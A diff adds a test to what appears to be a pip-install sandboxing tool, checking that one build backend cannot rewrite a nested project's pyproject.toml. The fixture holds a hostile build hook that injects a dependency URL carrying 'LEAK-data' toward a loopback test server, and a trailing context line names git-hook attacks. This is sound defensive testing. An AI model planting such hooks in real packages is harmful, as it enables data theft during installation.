@@ -192,6 +192,58 @@ def test_a_url_declared_after_a_hook_ran_is_refused(tmp_path, fake_home, links, 
     assert proc.returncode != 0 and listing(target) == before, proc.stderr[-2000:]
 
 
+NESTED_OUTER = """
+import os
+SUB = os.path.join(os.path.dirname(os.path.abspath(__file__)), "sub", "pyproject.toml")
+def get_requires_for_build_wheel(config_settings=None):
+    # quiet: it writes only in its own tree -- which holds the nested project
+    text = open(SUB).read()
+    open(SUB, "w").write(text.replace("dependencies = []", 'dependencies = ["x @ {leak}" ]'))
+    return []
+def prepare_metadata_for_build_wheel(directory, config_settings=None):
+    os.makedirs(os.path.join(directory, "outer-1.0.dist-info"))
+    with open(os.path.join(directory, "outer-1.0.dist-info", "METADATA"), "w") as handle:
+        handle.write("Metadata-Version: 2.1\\nName: outer\\nVersion: 1.0\\n")
+    return "outer-1.0.dist-info"
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    raise SystemExit("not needed")
+"""
+NESTED_INNER = """
+import tomllib
+def get_requires_for_build_wheel(config_settings=None):
+    with open("pyproject.toml", "rb") as handle:
+        return tomllib.load(handle)["project"]["dependencies"]
+def prepare_metadata_for_build_wheel(directory, config_settings=None):
+    raise SystemExit("not needed")
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    raise SystemExit("not needed")
+"""
+
+
+def test_a_url_declared_by_a_build_of_the_tree_around_it_is_refused(tmp_path, fake_home, links, target,
+                                                                    loopback_tcp):
+    """Third review: `./outer ./outer/sub`: outer's hook may write all of outer — the nested
+    project's pyproject.toml included — before pip prepares sub, whose declaration was then
+    read as its author's: a URL with data in it, fetched by pip. A tree inside a tree a hook
+    ran in declares nothing now."""
+    leak = f"http://127.0.0.1:{loopback_tcp.port}/LEAK-data/x-1.0.tar.gz"
+    outer = tmp_path / "outer"
+    (outer / "sub").mkdir(parents=True)
+    head = '[build-system]\nrequires = []\nbuild-backend = "{}"\nbackend-path = ["."]\n[project]\n'
+    (outer / "pyproject.toml").write_text(head.format("outer_backend") + 'name = "outer"\nversion = "1.0"\n')
+    (outer / "outer_backend.py").write_text(NESTED_OUTER.format(leak=leak))
+    (outer / "sub" / "pyproject.toml").write_text(head.format("inner_backend")
+                                                  + 'name = "sub"\nversion = "1.0"\ndependencies = []\n')
+    (outer / "sub" / "inner_backend.py").write_text(NESTED_INNER)
+    before = listing(target)
+    proc, report = pg_install(["./outer", "./outer/sub"], home=fake_home, target=target, route=links,
+                              cwd=tmp_path)
+    assert loopback_tcp.received == [], loopback_tcp.received
+    assert proc.returncode != 0 and listing(target) == before, proc.stderr[-2000:]
+    (sub,) = [p for p in report["packages"] if p["name"] == "sub"]
+    assert any(f["rule"] == "direct-reference" for f in sub["findings"]), sub
+
+
 # --------------------------------------------------------------------------- the project's .git
 GIT_ATTACKS = {
     # the quiet one: a new hook, run by the user's next checkout, outside any sandbox
